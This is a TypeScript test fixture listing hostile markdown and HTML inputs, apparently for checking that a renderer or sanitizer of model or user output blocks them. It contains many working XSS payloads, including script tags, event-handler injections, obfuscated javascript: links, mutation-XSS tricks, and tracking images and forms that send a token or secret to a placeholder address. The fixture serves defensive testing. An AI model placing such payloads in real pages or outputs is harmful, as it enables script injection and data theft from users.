/**
 * What somebody might make a model or a person say. `at` is an address that no page may ever ask for.
 *
 * Each calls `alert`, sets `window.taken` or asks for `at` if it gets its way.
 */
export type Hostile = (at: string) => string

/** Cut at every place: the ones whose first half looks harmless or is read as something else. */
export const nastiest: readonly Hostile[] = [
  (at) => `![a](${at}/i)<img src=${at}/r onerror=alert(1)>`,
  () => "[click](javascript:alert(1)) <javascript:alert(1)>",
  (at) => `[![b][r]][j]\n\n[r]: ${at}/ref\n[j]: javascript:alert(1)`,
  () => "<svg onload=alert(1)><script>window.taken=1</script>",
  (at) => `|a|\n|-|\n|<style>*{background:url(${at}/s)}|`,
  () => '**<iframe srcdoc="<script>top.taken=1</script>">**',
]

export const others: readonly Hostile[] = [
  () => "<script>alert(1)</script>",
  (at) => `<script src="${at}/script.js"></script>`,
  () => "<img src=x onerror=alert(1)>",
  (at) => `<img src="${at}/img" srcset="${at}/srcset 2x">`,
  (at) => `<picture><source srcset="${at}/source"><img src="${at}/pic"></picture>`,
  () => "<svg/onload=alert(1)>",
  () => "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  () => "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
  () => "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  () => "<body onload=alert(1)>",
  () => "<details open ontoggle=alert(1)>x</details>",
  () => "<input autofocus onfocus=alert(1)>",
  () => "<a href='javascript:alert(1)' autofocus onfocus='alert(1)'>x</a>",
  () => '<iframe src="javascript:alert(1)"></iframe>',
  (at) => `<iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed">`,
  (at) => `<form action="${at}/form"><button autofocus>Sign in</button><input name=token></form>`,
  (at) => `<base href="${at}/base/"><meta http-equiv="refresh" content="0;url=${at}/meta">`,
  (at) => `<link rel="stylesheet" href="${at}/css"><link rel="prefetch" href="${at}/prefetch">`,
  (at) => `<div style="background:url(${at}/style)">x</div>`,
  (at) => `<video src="${at}/video" autoplay poster="${at}/poster"></video><audio src="${at}/audio" autoplay></audio>`,
  () => "[a](javascript:alert(1))",
  () => "[a](JaVaScRiPt:alert(1))",
  () => "[a](\u0001javascript:alert(1))",
  () => "[a](java&#x0A;script:alert(1))",
  () => "[a](<java\tscript:alert(1)>)",
  () => "[a](javascript&colon;alert(1))",
  () => "[a](vbscript:msgbox(1))",
  () => "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  () => "[a](blob:http://127.0.0.1/x) [b](file:///etc/passwd) [c](//127.0.0.1/x)",
  () => "<javascript:alert(1)> <data:text/html,x>",
  (at) => `![tracker](${at}/plain-image?secret=1)`,
  (at) => `![tracker][ref]\n\n[ref]: ${at}/reference-image "title"`,
  (at) => `[![nested](${at}/nested)](javascript:alert(1))`,
  () => "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  (at) => `See ${at}/autolink and www.example.com and someone@example.com`,
  (at) => `$$\n\\href{javascript:alert(1)}{x} \\includegraphics{${at}/math}\n$$ and $\\url{javascript:alert(1)}$`,
  (at) =>
    `\`\`\`mermaid\ngraph TD\nA["<img src=${at}/mermaid onerror=alert(1)>"]\nclick A "javascript:alert(1)"\n\`\`\``,
  () => "```html\n<script>alert(1)</script>\n```",
  () => '```"><img src=x onerror=alert(1)>\ncode\n```',
  (at) => `[^1]\n\n[^1]: <img src="${at}/footnote" onerror=alert(1)> [x](javascript:alert(1))`,
  () => "- [x] <input type=checkbox onclick=alert(1)>\n- [ ] ]]><script>alert(1)</script>",
  () => "<!--[if gte IE 4]><script>alert(1)</script><![endif]--> --><script>alert(1)</script>",
  () =>
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  () => "\u202etpircs:avaj [\u200bjavascript\u200b:](javascript\u200b:alert(1))",
]
